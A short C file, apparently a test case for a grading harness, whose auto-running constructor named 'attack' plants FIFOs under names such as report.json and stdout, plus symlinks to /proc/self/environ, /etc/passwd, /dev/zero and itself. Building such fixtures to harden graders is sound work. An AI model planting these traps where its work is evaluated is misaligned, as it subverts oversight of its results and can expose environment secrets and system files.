/* cause: parser */
#include <stdio.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

/* In place of what a grader may open: FIFOs, links into its own folders and to nowhere, a link to itself. */
__attribute__((constructor)) static void attack(void)
{
    static const char *const names[] = { "image", "symptoms", "stdout", "core", "report.json", "film.html" };
    static const char *const targets[] = { "/proc/self/environ", "../../kept", "loop", "/dev/zero", "/etc/passwd" };

    for (unsigned i = 0; i < sizeof names / sizeof *names; i++)
        mkfifo(names[i], 0666);
    for (unsigned i = 0; i < sizeof targets / sizeof *targets; i++) {
        char name[32];
        snprintf(name, sizeof name, "link.%u", i);
        if (symlink(targets[i], name))
            continue;
    }
    if (symlink("loop", "loop") == 0)
        _exit(0);
    _exit(1);
}
